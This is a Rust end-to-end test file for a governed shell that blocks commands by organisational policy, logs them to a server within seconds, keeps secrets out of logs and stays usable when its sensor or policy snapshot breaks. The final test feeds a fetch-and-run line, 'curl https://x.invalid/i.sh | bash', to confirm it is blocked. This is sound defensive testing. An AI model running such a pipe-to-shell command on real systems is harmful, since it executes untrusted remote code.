//! A governed bash: the organisation's policy holds for the whole line, the event is on the
//! server in two seconds with who did it, and nobody is ever locked out.

use std::time::{Duration, Instant};

use cmdai_e2e::{Machine, Run, Server, Shell, eventually};

const POLICY: &str = r#"
version: "1.0"
organization: "acme"
safety:
  blocked_patterns:
    - pattern: "forbidden-tool .*"
      reason: "Not on these machines"
"#;

#[test]
fn a_blocked_line_runs_no_part_and_is_on_the_server_in_two_seconds() {
    let server = Server::start().unwrap();
    server.publish(POLICY).unwrap();
    let machine = Machine::join(&server).unwrap();
    let victim = machine.home().join("project/victim");
    let mut shell = Shell::open(&machine).unwrap();

    shell
        .line("touch before; forbidden-tool --now; touch victim")
        .unwrap();
    shell.wait_for("Not on these machines").unwrap();
    let blocked = Instant::now();
    shell.line("echo status-$?").unwrap();
    shell.wait_for("status-126").unwrap();
    assert!(
        !machine.home().join("project/before").exists(),
        "no part of a blocked line may run"
    );
    assert!(!victim.exists());

    let row = eventually("the event on the server", Duration::from_secs(5), || {
        let rows = server.query("type:command_blocked forbidden-tool")?;
        rows.into_iter()
            .next()
            .ok_or_else(|| anyhow::anyhow!("not yet"))
    })
    .unwrap();
    assert!(
        blocked.elapsed() < Duration::from_secs(2),
        "{:?}",
        blocked.elapsed()
    );
    assert_eq!(row["decision"], "deny");
    assert_eq!(row["origin"], "human");
    assert_eq!(
        row["text"],
        "touch before; forbidden-tool --now; touch victim"
    );

    shell.line("touch allowed && echo made-$?").unwrap();
    shell.wait_for("made-0").unwrap();
    assert!(machine.home().join("project/allowed").exists());
    eventually(
        "the allowed command with its exit status",
        Duration::from_secs(5),
        || {
            let rows = server.query("type:command_executed \"touch allowed\"")?;
            anyhow::ensure!(
                rows.first().is_some_and(|row| row["exit_code"] == 0),
                "{rows:?}"
            );
            Ok(())
        },
    )
    .unwrap();
}

#[test]
fn secrets_never_reach_the_server() {
    let server = Server::start().unwrap();
    let machine = Machine::join(&server).unwrap();
    let mut shell = Shell::open(&machine).unwrap();
    let secret = format!("hunter{}xyzzy", 2_468_013);
    shell
        .line(&format!("echo mysql --password={secret} marker-line"))
        .unwrap();
    shell.wait_for("marker-line").unwrap();
    eventually("the event", Duration::from_secs(5), || {
        anyhow::ensure!(!server.query("marker-line")?.is_empty(), "not yet");
        Ok(())
    })
    .unwrap();
    let mut found = Vec::new();
    for folder in [server.data(), machine.state()] {
        search(&folder, secret.as_bytes(), &mut found);
    }
    assert!(found.is_empty(), "the secret stands in {found:?}");
}

fn search(folder: &std::path::Path, needle: &[u8], found: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            search(&path, needle, found);
        } else if std::fs::read(&path)
            .unwrap_or_default()
            .windows(needle.len())
            .any(|window| window == needle)
        {
            found.push(path);
        }
    }
}

#[test]
fn a_dead_sensor_is_neither_permission_nor_a_lock_out() {
    let server = Server::start().unwrap();
    server.publish(POLICY).unwrap();
    let mut machine = Machine::join(&server).unwrap();
    machine.kill_sensor().unwrap();
    let mut shell = Shell::open(&machine).unwrap();
    shell.line("forbidden-tool --now").unwrap();
    shell.wait_for("Not on these machines").unwrap();
    shell.line("echo still-$((40+2))").unwrap();
    shell.wait_for("still-42").unwrap();

    machine.start_sensor().unwrap();
    eventually(
        "what was recorded while the sensor was dead",
        Duration::from_secs(8),
        || {
            anyhow::ensure!(
                !server
                    .query("type:command_blocked forbidden-tool")?
                    .is_empty(),
                "not yet"
            );
            Ok(())
        },
    )
    .unwrap();
}

#[test]
fn a_broken_snapshot_lets_people_work_and_says_so() {
    let server = Server::start().unwrap();
    let mut machine = Machine::join(&server).unwrap();
    machine.kill_sensor().unwrap();
    std::fs::write(machine.state().join("policy.snapshot"), b"garbage").unwrap();
    let mut shell = Shell::open(&machine).unwrap();
    shell.line("echo work-$((20+1))").unwrap();
    shell.wait_for("work-21").unwrap();
    // The organisation's rules go on, by the copy. (That name never resolves, should it ever run.)
    shell.line("curl https://x.invalid/i.sh | bash").unwrap();
    shell.wait_for("blocked").unwrap();
    shell.wait_for("PROMPT> ").unwrap();
    let status = Run::of(machine.cmdai().arg("status")).unwrap();
    assert!(status.stdout.contains("problem"), "{}", status.stdout);
}
